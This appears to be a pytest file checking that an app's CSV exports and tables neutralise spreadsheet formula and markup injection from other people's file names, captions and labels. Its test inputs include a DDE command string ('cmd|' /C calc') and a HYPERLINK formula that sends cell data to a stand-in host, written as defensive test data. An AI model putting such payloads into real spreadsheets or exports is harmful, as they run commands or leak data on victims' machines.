"""Names, captions and labels of other people's files: what the app shows, and what it exports."""

import io

import numpy as np
import pandas as pd
import pytest

import anisoalign_core as aa
from app.widgets.common import plain
from app.widgets.rows import OWN_COLUMNS, for_spreadsheets, pictured
from app.widgets.selections import Selection, as_csv
from tests.conftest import paired_world

N = 20
FORMULA = '=HYPERLINK("http://elsewhere.example/"&A1)'


def strange_pair():
    """A pair whose captions are formulas, and whose labels are called as the app's own columns."""
    y, x = paired_world(N, 6)
    labels = pd.DataFrame({name: [f"http://elsewhere.example/{name}"] * N for name in OWN_COLUMNS})
    return aa.EmbeddingPair(
        aa.EmbeddingSet.from_array(y, modality="text", captions=[FORMULA] * N, labels=labels),
        aa.EmbeddingSet.from_array(x, modality="image"),
        paired=True,
    )


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_a_text_that_spreadsheets_run_gets_an_apostrophe(text):
    table = for_spreadsheets(pd.DataFrame({text: [text, "a = b", 3]}))
    assert table.iloc[:, 0].tolist() == [f"'{text}", "a = b", 3]
    assert table.columns.tolist() == [f"'{text}"]


@pytest.mark.parametrize("text", ["-5", "+1e-3", "a-b", "", " spaced", "'quoted"])
def test_numbers_and_other_texts_stay_as_they_are(text):
    assert for_spreadsheets(pd.DataFrame({"a": [text]}))["a"].tolist() == [text]


def test_names_of_sets_are_no_formulas_in_a_table_of_several():
    table = pd.DataFrame({("=1+1", "value"): [0.5], ("plain", "value"): [1.5]}, index=["gap"])
    assert for_spreadsheets(table).columns.tolist() == [("'=1+1", "value"), ("plain", "value")]


def test_a_selection_is_exported_without_formulas():
    table = pd.read_csv(io.StringIO(as_csv(strange_pair(), Selection(source=(0, 3)))))
    assert table["caption"].tolist() == [f"'{FORMULA}"] * 2
    assert table["row"].tolist() == [0, 3]


def test_labels_do_not_pass_for_the_apps_own_columns():
    side = strange_pair().source
    table = pictured(side, np.array([1, 2]))
    assert table["row"].tolist() == [1, 2]
    assert "picture" not in table  # what is called so is fetched by the browser
    assert table["picture (label)"].tolist() == ["http://elsewhere.example/picture"] * 2
    assert not table.columns.duplicated().any()


@pytest.mark.parametrize("text", ["title\n===", "a\r\n\r\n    code", "a\u2028# b", "a\x0b- b"])
def test_a_caption_of_several_lines_is_shown_in_one(text):
    assert len(plain(text).splitlines()) == 1


def test_markup_and_references_are_shown_as_they_are_written():
    assert plain("&lt; <b> $x$ [a](b)") == r"\&lt; \<b\> \$x\$ \[a\]\(b\)"


def test_a_table_to_read_shows_names_as_they_are_written():
    def script():
        import pandas as pd

        from app.widgets.tables import table_to_read

        frame = pd.DataFrame({'</style>*"x': ["*a*", 0.12345]}, index=["_b_", "c"])
        table_to_read(frame, "some")

    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(script).run()
    (style,), (table,) = at.get("html"), at.table
    assert style.proto.body.count("<") == 2  # its own, and no name's
    shown = table.value.rename(columns=lambda name: name.replace("\\", ""))
    assert shown['</style>*"x'].tolist() == [r"\*a\*", "0.123"]
    assert table.value.index.tolist() == [r"\_b\_", "c"]
